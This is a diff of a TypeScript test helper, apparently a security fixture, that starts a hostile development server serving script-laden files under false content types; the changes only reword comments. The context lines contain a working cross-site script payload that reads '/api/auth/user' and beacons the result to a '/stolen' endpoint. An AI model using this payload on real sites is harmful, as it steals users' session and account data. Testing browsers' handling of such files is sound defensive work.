@@ -3,7 +3,7 @@ import type { AddressInfo } from 'node:net';
 
 export interface HostileServer {
   url: string;
-  /** What scripts of its files sent to it. */
+  /** What scripts in its files sent to it. */
   stolen: string[];
   close: () => void;
 }
@@ -12,7 +12,10 @@ const script = (home: string) =>
   `try{localStorage.setItem('ran',location.pathname)}catch(e){};document.title='ran';new Image().src='${home}/stolen?ran';` +
   `fetch('/api/auth/user').then(r=>r.text()).then(t=>{new Image().src='${home}/stolen?'+encodeURIComponent(t)})`;
 
-/** For each extension a file that runs a script where a browser takes it for a document, with the type it hopes for. */
+/**
+ * For each extension a file with a script that runs if a browser treats the file as a document, and the type that
+ * would make it do so.
+ */
 function fileOf(extension: string, home: string): [type: string, body: string] {
   const code = script(home);
   const page = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${code}</script></head><body onload="1"/></html>`;
@@ -36,12 +39,12 @@ function fileOf(extension: string, home: string): [type: string, body: string] {
     case 'mjs':
       return ['text/html', `/*${page}*/ ${code}`];
     default:
-      // Everything that is text to a browser that guesses.
+      // Any type that a guessing browser treats as text.
       return ['text/html', page];
   }
 }
 
-/** A development server whose files all are what they should not be. */
+/** A development server that serves hostile files with false types. */
 export async function startHostileServer(): Promise<HostileServer> {
   const stolen: string[] = [];
   const server = createServer((request, response) => {
